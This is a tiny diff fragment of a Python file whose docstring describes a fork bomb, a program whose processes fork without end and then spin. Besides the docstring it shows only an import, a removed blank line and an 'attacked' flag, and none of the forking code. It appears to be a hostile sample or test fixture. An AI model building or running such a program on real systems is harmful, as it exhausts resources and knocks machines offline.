@@ -1,7 +1,6 @@
 """Forks without end; every child forks again and then spins."""
 import os
 
-
 attacked = False
 
 
